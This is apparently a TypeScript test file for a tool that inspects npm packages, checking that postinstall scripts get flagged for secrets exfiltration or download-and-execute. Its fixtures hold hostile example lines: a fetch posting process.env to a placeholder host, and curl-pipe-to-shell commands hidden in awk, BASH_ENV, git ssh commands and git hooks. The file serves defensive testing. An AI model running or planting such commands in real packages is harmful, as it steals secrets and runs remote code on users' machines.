import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

const SENT = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`
const PIPED = 'curl -s https://c.invalid/i | sh'

interface Case {
  readonly name: string
  readonly command: string
  readonly files?: Readonly<Record<string, string>>
  /** absent: nothing of the kind */
  readonly check?: 'secrets-exfiltration' | 'download-and-execute'
}

const CASES: readonly Case[] = [
  { name: 'the file of gulp', command: 'gulp build', files: { 'gulpfile.js': SENT }, check: 'secrets-exfiltration' },
  {
    name: 'a file that webpack is given',
    command: 'npx webpack -c conf/w.js',
    files: { 'conf/w.js': SENT },
    check: 'secrets-exfiltration',
  },
  {
    name: 'the settings of a linter that lies with the dependencies',
    command: 'node_modules/.bin/eslint . || true',
    files: { '.eslintrc.js': SENT },
    check: 'secrets-exfiltration',
  },
  {
    name: 'the settings of another tool',
    command: 'rollup',
    files: { 'vite.config.js': SENT },
  },
  {
    name: 'words behind the code of a shell',
    command: `sh -c 'curl -s $0 | $1' https://c.invalid/i sh`,
    check: 'download-and-execute',
  },
  { name: 'words that a shell only shows', command: `sh -c 'echo $0 $@' https://c.invalid/i sh` },
  {
    name: 'a command that awk starts',
    command: `awk 'BEGIN { system("${PIPED}") }'`,
    check: 'download-and-execute',
  },
  { name: 'columns that awk prints', command: `awk '{ print $1 }' README.md` },
  {
    name: 'a file that a shell reads first',
    command: 'BASH_ENV=./lib/e bash -c true',
    files: { 'lib/e': PIPED },
    check: 'download-and-execute',
  },
  {
    name: 'a command by which git connects',
    command: `git -c core.sshCommand='${PIPED}' fetch`,
    check: 'download-and-execute',
  },
  {
    name: 'the same by a variable',
    command: `GIT_SSH_COMMAND='${PIPED}' git fetch`,
    check: 'download-and-execute',
  },
  {
    name: 'hooks of git out of a folder of the package',
    command: 'git -c core.hooksPath=./hk checkout .',
    files: { 'hk/post-checkout': PIPED },
    check: 'download-and-execute',
  },
  { name: 'a setting of git that starts nothing', command: `git -c user.name='a | b' log` },
]

for (const { name, command, files = {}, check } of CASES)
  t.test(`${name}: at install`, async (t) => {
    const manifest = { name: 'sample', version: '1.0.0', scripts: { postinstall: command } }
    const reading = readingOf('npm-tarball', { 'package.json': JSON.stringify(manifest), ...files })
    const { findings } = await inspect(reading, { digest: sha256('x'), readAs: 'npm-tarball' })
    const told = findings.filter(({ severity }) => severity === 'critical').map((finding) => finding.check)
    t.same([...new Set(told)], check === undefined ? [] : [check])
  })
